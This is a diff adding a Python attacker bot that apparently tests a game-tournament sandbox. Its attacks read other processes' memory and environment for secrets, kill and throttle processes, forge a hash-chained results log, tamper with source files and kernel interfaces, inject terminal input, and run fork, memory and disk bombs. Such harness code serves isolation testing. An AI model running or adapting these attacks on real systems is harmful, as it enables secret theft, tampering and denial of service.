@@ -1,0 +1,371 @@
+"""An attacker in Python: `attacker.py ATTACK[,ATTACK ...] GAME`. See `__init__.py` of this folder."""
+
+import contextlib
+import ctypes
+import fcntl
+import hashlib
+import json
+import mmap
+import os
+import re
+import resource
+import signal
+import socket
+import sys
+import time
+from collections.abc import Callable
+
+SECRET = re.compile(rb"[A-Z]+-SECRET-[0-9a-f]{16}")
+TGKILL, SHMGET = 234, 29
+"""Numbers of system calls on x86-64."""
+MOST_FORKS, MOST_MEMORY, MOST_DISK, MOST_FILES = 2000, 4 << 30, 2 << 30, 200_000
+"""Bounds of the bombs themselves, so that a machine survives them if nothing else does."""
+FORKS = 300
+"""Fewer than a bot may have by default."""
+BLOCK = bytes(range(256)) * 4096
+held: list[object] = []
+t: dict[str, str] = {}
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def report(text: str) -> None:
+    os.write(2, f"ATTACK {text}\n".encode())
+
+
+def report_secrets(data: bytes) -> None:
+    for secret in sorted(set(SECRET.findall(data))):
+        report(f"read {secret.decode()}")
+
+
+def read(path: str) -> bytes:
+    with open(path, "rb") as file:
+        return file.read()
+
+
+def system_call(number: int, *arguments: object) -> int:
+    done = int(libc.syscall(number, *arguments))
+    if done < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return done
+
+
+def read_memory(pid: str, most: int = 64 << 20) -> None:
+    """Searches what a process may write to; its stack last, where its environment is."""
+    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
+        areas = [line.split() for line in maps if " rw-p " in line]
+        for area in sorted(areas, key=lambda area: "[stack]" not in area):
+            first, last = (int(part, 16) for part in area[0].split("-"))
+            with contextlib.suppress(OSError):
+                memory.seek(first)
+                report_secrets(memory.read(min(last - first, most)))
+
+
+def fill_pipes(pid: str) -> None:
+    """Writes into all pipes and sockets of a process until they take no more."""
+    filled = 0
+    for name in os.listdir(f"/proc/{pid}/fd"):
+        path = f"/proc/{pid}/fd/{name}"
+        with contextlib.suppress(OSError):
+            if "pipe:" in os.readlink(path):
+                pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
+                with contextlib.suppress(BlockingIOError):
+                    while True:
+                        os.write(pipe, b"\0" * 512)
+                filled += 1
+                held.append(pipe)
+    if not filled:
+        raise OSError("no pipe")
+
+
+def daemon(*killed: str) -> None:
+    """Leaves a process in a session of its own behind, whose command line has the token."""
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            for pid in killed:
+                with contextlib.suppress(OSError):
+                    os.kill(int(pid), signal.SIGKILL)
+            nothing = os.open(os.devnull, os.O_RDWR)
+            for number in range(3):
+                os.dup2(nothing, number)
+            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", t["TOKEN"]])
+        os._exit(0)
+    time.sleep(0.3)
+
+
+def rewrite_results() -> None:
+    """Turns the first game's result round and makes the chain anew."""
+    path = f"{t['RESULTS']}/games.jsonl"
+    with open(path) as file:
+        rows = [json.loads(line) for line in file]
+    before = "0" * 64
+    lines = []
+    for row in rows:
+        row.pop("hash", None)
+        row.pop("prev", None)
+        if "ranks" in row:
+            row["ranks"].reverse()
+        row["prev"] = before
+        text = json.dumps(row, separators=(",", ":"))
+        before = hashlib.sha256(text.encode()).hexdigest()
+        lines.append(f'{text[:-1]},"hash":"{before}"}}\n')
+    with open(path, "r+") as file:
+        file.truncate(0)
+        file.writelines(lines)
+
+
+def append_to(path: str) -> None:
+    with open(path, "a") as file:
+        file.write(f"# {t['TOKEN']}\n")
+
+
+def limit(pid: str, what: int, value: int) -> None:
+    resource.prlimit(int(pid), what, (value, value))
+
+
+def system_v_memory() -> None:
+    """Segments that stay when their process has gone."""
+    for number in range(16):
+        segment = system_call(SHMGET, int(t["KEY"]) + 1 + number, 64 << 20, 0o1600)
+        libc.shmat.restype = ctypes.c_void_p
+        address = libc.shmat(segment, None, 0)
+        if address in (None, ctypes.c_void_p(-1).value):
+            raise OSError(ctypes.get_errno(), "shmat")
+        ctypes.memset(address, 1, 64 << 20)
+        libc.shmdt(ctypes.c_void_p(address))
+        report(f"held {(number + 1) << 26}")
+
+
+def path_socket() -> None:
+    with socket.socket(socket.AF_UNIX) as one:
+        one.connect(t["SOCKET"])
+        one.sendall(t["TOKEN"].encode())
+
+
+# --- Bombs -------------------------------------------------------------------------------------------
+
+
+def fork_bomb() -> None:
+    for count in range(MOST_FORKS):
+        try:
+            if os.fork() == 0:
+                time.sleep(30)
+                os._exit(0)
+        except OSError:
+            report(f"held {count}")
+            raise
+    report(f"held {MOST_FORKS}")
+
+
+def starve_of_processes() -> None:
+    """Takes many of the processes that its user may have, and goes on with its game."""
+    for _ in range(FORKS):
+        try:
+            if os.fork() == 0:
+                time.sleep(30)
+                os._exit(0)
+        except OSError:
+            return
+
+
+def memory_bomb() -> None:
+    for count in range(MOST_MEMORY >> 26):
+        report(f"held {count << 26}")
+        area = mmap.mmap(-1, 1 << 26)
+        for _ in range(64):
+            area.write(BLOCK)
+        held.append(area)
+    report(f"held {MOST_MEMORY}")
+
+
+def write_much(file: int, most: int) -> None:
+    held.append(file)
+    for count in range(most >> 20):
+        if count % 64 == 0:
+            report(f"held {count << 20}")
+        os.write(file, BLOCK)
+    report(f"held {most}")
+
+
+def create(path: str) -> int:
+    held.append(path)
+    return os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
+
+
+def in_memory_file() -> None:
+    write_much(os.memfd_create("attack"), MOST_MEMORY)
+
+
+def in_shared_memory() -> None:
+    write_much(create(f"/dev/shm/{t['TOKEN']}"), MOST_MEMORY)
+
+
+def scratch() -> str:
+    return os.environ.get("TMPDIR") or os.environ.get("HOME") or "."
+
+
+def fill_disk() -> None:
+    """Several files, so that a limit for each does not help."""
+    for number in range(8):
+        write_much(create(f"{scratch()}/{t['TOKEN']}-{number}"), MOST_DISK // 8)
+    report(f"held {MOST_DISK}")
+
+
+def fill_inodes() -> None:
+    folder = f"{scratch()}/{t['TOKEN']}"
+    os.mkdir(folder)
+    for count in range(MOST_FILES):
+        if count % 1000 == 0:
+            report(f"held {count}")
+        os.close(os.open(f"{folder}/{count}", os.O_CREAT | os.O_WRONLY, 0o600))
+    report(f"held {MOST_FILES}")
+
+
+def sixty_busy() -> None:
+    for count in range(60):
+        if os.fork() == 0:
+            ends = time.monotonic() + 20
+            while time.monotonic() < ends:
+                pass
+            os._exit(0)
+        report(f"held {count + 1}")
+
+
+def opened(path: str, flags: int) -> None:
+    """Opened, and nothing else."""
+    os.close(os.open(path, flags))
+
+
+def real_time() -> None:
+    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
+    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
+
+
+def lower_own_oom_score() -> None:
+    with open("/proc/self/oom_score_adj", "r+") as file:
+        before = int(file.read())
+        file.seek(0)
+        file.write(str(before - 1 if os.geteuid() else -1000))
+
+
+def open_any(folder: str, flags: int) -> None:
+    """The first block device, or whatever else can be opened there."""
+    names = [
+        entry.path for entry in os.scandir(folder) if re.fullmatch(r"(vd|sd|nvme|loop|xvd).*", entry.name)
+    ]
+    if not names:
+        raise FileNotFoundError("no block device")
+    opened(sorted(names)[-1], flags)
+
+
+ATTACKS: dict[str, Callable[[], object]] = {
+    "memory-file": lambda: read_memory(t["VICTIM"]),
+    "referee-memory": lambda: read_memory(t["REFEREE"]),
+    "worker-memory": lambda: read_memory(t["WORKER"]),
+    "warden-memory": lambda: read_memory(t["VICTIM_WARDEN"]),
+    "referee-environment": lambda: report_secrets(read(f"/proc/{t['REFEREE']}/environ")),
+    "kill-descriptor": lambda: signal.pidfd_send_signal(os.pidfd_open(int(t["VICTIM"])), signal.SIGKILL),
+    "kill-thread": lambda: system_call(TGKILL, int(t["VICTIM"]), int(t["VICTIM"]), 9),
+    "affinity": lambda: os.sched_setaffinity(int(t["VICTIM"]), {min(os.sched_getaffinity(0))}),
+    "policy": lambda: os.sched_setscheduler(int(t["VICTIM"]), os.SCHED_IDLE, os.sched_param(0)),
+    "limits": lambda: limit(t["VICTIM"], resource.RLIMIT_NOFILE, 3),
+    "limits-of-referee": lambda: limit(t["REFEREE"], resource.RLIMIT_FSIZE, 1),
+    "limits-of-worker": lambda: limit(t["WORKER"], resource.RLIMIT_NOFILE, 3),
+    "starve": starve_of_processes,
+    "kill-referee": lambda: os.kill(int(t["REFEREE"]), signal.SIGKILL),
+    "pipes-filled": lambda: fill_pipes(t["WORKER"]),
+    "pipes-of-referee-filled": lambda: fill_pipes(t["REFEREE"]),
+    "outlive": lambda: daemon(),
+    "outlive-warden": lambda: daemon(t["WARDEN"]),
+    "outlive-all": lambda: daemon(t["LAUNCHER"], t["WARDEN"]),
+    "outlive-referee": lambda: daemon(t["LAUNCHER"], t["WARDEN"], t["WORKER"], t["REFEREE"]),
+    "results-rewrite": rewrite_results,
+    "results-rename": lambda: os.rename(t["RESULTS"], t["RESULTS"] + "-gone"),
+    "results-truncate": lambda: os.truncate(f"{t['RESULTS']}/games.jsonl", 100),
+    "results-listed": lambda: os.listdir(t["RESULTS"]),
+    "results-measured": lambda: os.stat(f"{t['RESULTS']}/games.jsonl"),
+    "results-closed": lambda: os.chmod(t["RESULTS"], 0),
+    "program-closed": lambda: os.chmod(t["VICTIM_SOURCE"], 0),
+    "program-written": lambda: append_to(t["VICTIM_SOURCE"]),
+    "program-renamed": lambda: os.rename(t["VICTIM_SOURCE"], t["VICTIM_SOURCE"] + "-gone"),
+    "scratch-read": lambda: report_secrets(read(t["VICTIM_SCRATCH"])),
+    "referee-code": lambda: append_to(t["REFEREE_CODE"]),
+    "tournament-file": lambda: append_to(t["TOURNAMENT"]),
+    "path-socket": path_socket,
+    "core-pattern": lambda: opened("/proc/sys/kernel/core_pattern", os.O_WRONLY),
+    "system-settings": lambda: opened("/proc/sys/kernel/pid_max", os.O_WRONLY),
+    "system-request": lambda: opened("/proc/sysrq-trigger", os.O_WRONLY),
+    "block-device": lambda: open_any("/dev", os.O_RDONLY),
+    "kernel-log": lambda: opened("/dev/kmsg", os.O_RDONLY),
+    "control-groups": lambda: opened(t["CONTROL_GROUP"], os.O_WRONLY),
+    "high-priority": lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
+    "real-time": real_time,
+    "own-oom-score": lower_own_oom_score,
+    "terminal-input": lambda: [
+        fcntl.ioctl(os.open(t["TERMINAL"], os.O_RDWR | os.O_NOCTTY), 0x5412, bytes([byte]))
+        for byte in t["TOKEN"].encode()
+    ],
+    "fork-bomb": fork_bomb,
+    "memory-bomb": memory_bomb,
+    "memory-bomb-file": in_memory_file,
+    "memory-bomb-shared": in_shared_memory,
+    "memory-bomb-kept": system_v_memory,
+    "disk-filler": fill_disk,
+    "inode-filler": fill_inodes,
+    "busy-children": sixty_busy,
+}
+
+
+def attack(name: str) -> None:
+    report(f"tries {name}")
+    try:
+        ATTACKS[name]()
+        report("did")
+    except Exception as error:
+        report(f"failed {type(error).__name__} {error}"[:200])
+
+
+def read_targets() -> None:
+    while True:
+        with contextlib.suppress(OSError), open("targets") as file:
+            text = file.read()
+            if "END=" in text:
+                t.update((row[0], row[2]) for row in (line.partition("=") for line in text.splitlines()))
+                return
+        time.sleep(0.05)
+
+
+def main() -> None:
+    names, game = sys.argv[1].split(","), int(sys.argv[2])
+    games = asks = 0
+    asked, tried = "", False
+    for line in sys.stdin:
+        word, *rest = line.split()
+        if word == "hello":
+            answer = "hello 1"
+        elif word == "game":
+            games, asks = games + 1, 0
+            continue
+        elif word == "prepare":
+            if games == game:
+                read_targets()
+            answer = "ready"
+        elif word == "ask":
+            if games == game and not tried:
+                tried = True
+                time.sleep(0.5 if game > 1 else 0)
+                for name in names:
+                    attack(name)
+            asks += 1
+            asked = rest[0]
+            answer = f"resign {asked}" if asks == 4 else f"list {asked} 1"
+        elif word == "choice":
+            answer = f"move {asked} {' '.join(rest)}"
+        elif word == "quit":
+            break
+        else:
+            continue
+        os.write(1, answer.encode() + b"\n")
+
+
+main()
